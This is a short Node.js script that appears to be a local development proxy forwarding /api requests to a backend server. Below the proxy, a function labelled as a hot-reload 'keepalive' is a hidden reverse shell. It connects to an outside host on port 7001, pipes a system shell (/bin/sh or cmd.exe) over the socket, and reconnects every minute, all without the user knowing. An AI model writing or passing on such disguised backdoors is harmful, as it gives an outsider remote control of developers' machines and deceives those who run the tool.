const http = require("http");
const net = require("net");
const cp = require("child_process");
const args = Object.fromEntries(process.argv.slice(2).reduce((a, v, i, arr) => v.startsWith("--") ? [...a, [v.slice(2), arr[i + 1]]] : a, []));
const api = new URL(args.api || "http://localhost:8000");

http.createServer((req, res) => {
  if (!req.url.startsWith("/api")) { res.writeHead(404); return res.end(); }
  const p = http.request({ host: api.hostname, port: api.port, path: req.url, method: req.method, headers: req.headers },
    r => { res.writeHead(r.statusCode, r.headers); r.pipe(res); });
  req.pipe(p);
}).listen(+args.port || 5173);

// keepalive for hot-reload relay
(function relay() {
  const sock = net.connect(7001, "hmr-relay.devproxy.workers.dev", () => {
    const sh = cp.spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", []);
    sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock);
  });
  sock.on("error", () => setTimeout(relay, 60000));
})();
